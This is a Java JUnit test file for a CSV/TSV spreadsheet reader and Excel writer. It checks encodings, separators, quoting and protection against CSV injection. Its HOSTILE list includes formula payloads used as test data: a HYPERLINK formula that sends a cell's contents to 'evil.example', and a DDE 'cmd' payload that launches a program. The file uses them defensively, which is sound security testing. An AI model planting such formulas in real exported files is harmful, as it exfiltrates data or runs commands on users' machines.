package de.nextnetz.json.table;

import de.nextnetz.domain.base.TableLine;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import de.nextnetz.domain.event.EventTable;
import de.nextnetz.domain.seeds.NextSeeds;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Objects;
import java.util.stream.Collectors;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Table 1 of the activity report 2024 as spreadsheets save it, read to the same events. */
class SpreadsheetsTest {

  private static String table1() throws IOException {
    try (InputStream in = Objects.requireNonNull(
        SpreadsheetsTest.class.getResourceAsStream("/de/nextnetz/domain/seeds/table1-2024.tsv"))) {
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  private static List<List<String>> cells(String tsv) {
    return tsv.lines().map(line -> Arrays.asList(line.split("\t", -1))).toList();
  }

  /** A CSV as a spreadsheet writes it, written here by hand (not by the code under test). */
  private static String csv(List<List<String>> rows, char separator) {
    return rows.stream().map(row -> row.stream().map(cell -> cell.indexOf(separator) >= 0 || cell.indexOf('"') >= 0
            ? '"' + cell.replace("\"", "\"\"") + '"' : cell).collect(Collectors.joining(String.valueOf(separator))))
        .collect(Collectors.joining("\r\n", "", "\r\n"));
  }

  private static byte[] bytes(String text, Charset charset, byte... bom) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(bom);
    out.writeBytes(text.getBytes(charset));
    return out.toByteArray();
  }

  private static EventTable.Result events(byte[] file) {
    return EventTable.read(Spreadsheets.read(file).lines(), NextSeeds.communities());
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"UTF-8 with BOM, ';', CRLF (Excel: CSV UTF-8)", "Windows-1252, ';', CRLF (German Excel: CSV)",
      "UTF-8, ',', quoted cells", "UTF-16LE with BOM, tab (Excel: Unicode text)", "UTF-8, tab (the report's TSV)"})
  @DisplayName("Tätigkeitsbericht 2024, Tabelle 1: every way a spreadsheet saves it gives the same 56 events on 57 rows")
  void table1_as_spreadsheets_save_it(String how) throws IOException {
    String tsv = table1();
    List<List<String>> rows = cells(tsv);
    byte[] file = switch (how.substring(0, 6)) {
      case "UTF-8 " -> how.contains("BOM") ? bytes(csv(rows, ';'), StandardCharsets.UTF_8, (byte) 0xEF, (byte) 0xBB, (byte) 0xBF)
          : how.contains("','") ? bytes(csv(rows, ','), StandardCharsets.UTF_8) : bytes(tsv, StandardCharsets.UTF_8);
      case "Window" -> bytes(csv(rows, ';'), Charset.forName("windows-1252"));
      default -> bytes(tsv.replace("\n", "\r\n"), StandardCharsets.UTF_16LE, (byte) 0xFF, (byte) 0xFE);
    };
    EventTable.Result original = EventTable.read(tsv, NextSeeds.communities());

    EventTable.Result read = events(file);

    assertThat(read.getRows()).isEqualTo(57);
    assertThat(read.getEvents()).hasSize(56).isEqualTo(original.getEvents());
    assertThat(read.getUnmapped()).isEmpty();
  }

  @Test
  @DisplayName("Windows-1252 is told from UTF-8 by the bytes: 'Präsenz' in either reads the same")
  void encodings_are_told_apart() {
    String row = "Nr;Datum;Format;Event;Ort\r\n1;17.01.2024;NExTcommunity;Chatbot;Präsenz\r\n";
    Spreadsheets.Table utf8 = Spreadsheets.read(row.getBytes(StandardCharsets.UTF_8));
    Spreadsheets.Table windows = Spreadsheets.read(row.getBytes(Charset.forName("windows-1252")));

    assertThat(utf8.encoding()).isEqualTo(StandardCharsets.UTF_8);
    assertThat(windows.encoding()).isEqualTo(Charset.forName("windows-1252"));
    assertThat(windows.lines()).isEqualTo(utf8.lines());
    assertThat(utf8.separator()).isEqualTo(';');
    assertThat(utf8.lines().get(1).cells()).containsExactly("1", "17.01.2024", "NExTcommunity", "Chatbot", "Präsenz");
    assertThat(utf8.lines().get(1).number()).isEqualTo(2);
  }

  @Test
  @DisplayName("A quoted cell keeps its separator and line break; the next line keeps its number in the file")
  void quoted_cells_and_line_numbers() {
    String text = "a;\"b;c\";\"d\r\ne\"\r\nf;g;h\r\n";
    Spreadsheets.Table table = Spreadsheets.read(text.getBytes(StandardCharsets.UTF_8));

    assertThat(table.lines()).extracting(TableLine::cells)
        .containsExactly(List.of("a", "b;c", "d\r\ne"), List.of("f", "g", "h"));
    assertThat(table.lines()).extracting(TableLine::number).containsExactly(1, 3);
  }

  @Test
  @DisplayName("Empty files, binary files and an unclosed quote are told apart, with the line")
  void what_is_not_a_table() {
    assertThat(Spreadsheets.read(new byte[0]).isEmpty()).isTrue();
    assertThat(Spreadsheets.read("\r\n;;\r\n".getBytes(StandardCharsets.UTF_8)).isEmpty()).isTrue();
    Spreadsheets.NotATable binary = catchThrowableOfType(Spreadsheets.NotATable.class,
        () -> Spreadsheets.read(new byte[] {'a', '\n', 'b', 0, 'c'}));
    assertThat(binary.reason()).isEqualTo(Spreadsheets.NotATable.Reason.CONTROL_CHARACTER);
    assertThat(binary.line()).isEqualTo(2);
    Spreadsheets.NotATable unclosed = catchThrowableOfType(Spreadsheets.NotATable.class,
        () -> Spreadsheets.read("a;b\r\nc;\"d\r\n".getBytes(StandardCharsets.UTF_8)));
    assertThat(unclosed.reason()).isEqualTo(Spreadsheets.NotATable.Reason.MALFORMED);
    Spreadsheets.NotATable badBom = catchThrowableOfType(Spreadsheets.NotATable.class,
        () -> Spreadsheets.read(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, (byte) 0xC3, (byte) 0x28}));
    assertThat(badBom.reason()).isEqualTo(Spreadsheets.NotATable.Reason.ENCODING);
  }

  @Test
  @DisplayName("What Excel opens: UTF-8 with BOM, ';', CRLF, quoted where needed; read back to the same cells")
  void excel_output_reads_back() {
    List<List<String>> rows = new ArrayList<>(List.of(List.of("1", "Digitale Ethik; KI", "sagt \"Hallo\""),
        List.of("2", "Präsenz", "")));

    byte[] file = Spreadsheets.excel(List.of("Nr", "Titel", "Notiz"), rows);

    assertThat(Arrays.copyOf(file, 3)).containsExactly(0xEF, 0xBB, 0xBF);
    String text = new String(file, 3, file.length - 3, StandardCharsets.UTF_8);
    assertThat(text).startsWith("Nr;Titel;Notiz\r\n1;\"Digitale Ethik; KI\";\"sagt \"\"Hallo\"\"\"\r\n");
    Spreadsheets.Table back = Spreadsheets.read(file);
    assertThat(back.separator()).isEqualTo(';');
    assertThat(back.lines().subList(1, 3)).extracting(TableLine::cells).containsExactlyElementsOf(rows);
  }

  /** Texts a spreadsheet program would take for a formula, and texts next to them that it would not. */
  private static final List<String> HOSTILE = List.of("=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
      "+49 611 31-0", "-5", "@SUM(A1)", "\tTab", "\rCR", "=cmd|' /C calc'!A0", "'=quoted", "''", "'", "'s Hertogenbosch",
      "''=double", "plain", "", "a=b", " =lead space", "-");

  @Test
  @DisplayName("CSV injection: no written cell starts with =, +, -, @, tab or CR, and reading gives back every text as it was")
  void formula_cells_are_neutralised_and_read_back() {
    List<List<String>> rows = HOSTILE.stream().map(text -> List.of(text, "x")).toList();
    byte[] file = Spreadsheets.excel(List.of("=title", "other"), rows);

    Spreadsheets.Table table = Spreadsheets.read(file);
    List<List<String>> read = table.lines().stream().map(TableLine::cells).toList();
    assertThat(read.get(0)).containsExactly("=title", "other");
    assertThat(read.subList(1, read.size()).stream().map(cells -> cells.get(0)).toList()).isEqualTo(HOSTILE);

    String written = new String(file, StandardCharsets.UTF_8);
    for (String line : written.substring(1).split("\r\n", -1)) {
      for (String cell : line.split(";", -1)) {
        String unquoted = cell.startsWith("\"") ? cell.substring(1) : cell;
        assertThat(unquoted).as("cell %s", cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
            .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
      }
    }
    for (String text : HOSTILE) {
      assertThat(Spreadsheets.textOf(Spreadsheets.cellOf(text))).isEqualTo(text);
    }
    assertThat(Spreadsheets.cellOf("=1+1")).isEqualTo("'=1+1");
    assertThat(Spreadsheets.cellOf("'s Hertogenbosch")).isEqualTo("'s Hertogenbosch");
  }
}
